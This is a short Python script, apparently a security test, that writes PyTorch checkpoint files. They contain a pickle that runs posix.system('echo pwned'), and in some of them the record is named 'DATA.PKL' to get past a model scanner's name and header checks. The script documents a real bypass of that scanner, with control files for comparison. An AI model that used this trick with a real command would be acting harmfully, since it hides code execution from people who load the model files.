"""PyTorch zip checkpoint whose pickle record is named `archive/DATA.PKL`: PyTorch's
reader (miniz, mz_zip_reader_locate_file with flags 0) matches names case-insensitively,
so torch.load reads it as archive/data.pkl; moat only scans names ending in `.pkl` or
members that start like a pickle. Written only."""
import os
import zipfile
O = os.path.dirname(os.path.abspath(__file__)) + "/"
payload = b"\x80\x01cposix\nsystem\n(X\n\x00\x00\x00echo pwnedtR."   # PROTO 1: not sniffed
ok_payload = b"\x80\x02cposix\nsystem\n(X\n\x00\x00\x00echo pwnedtR."
def tz(name, member, data):
    with zipfile.ZipFile(O + name, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/" + member, data)
        z.writestr("archive/byteorder", "little")
        z.writestr("archive/version", "3\n")
        z.writestr("archive/.data/serialization_id", "1234")
tz("t0_baseline.pt", "data.pkl", ok_payload)
tz("t1_upper_DATA_PKL.pt", "DATA.PKL", payload)
tz("t2_upper_sniffed.pt", "DATA.PKL", ok_payload)   # control: sniffed by its first bytes
tz("t3_data_pkl_proto1.pt", "data.pkl", payload)    # control: .pkl name always scanned
print("ok")
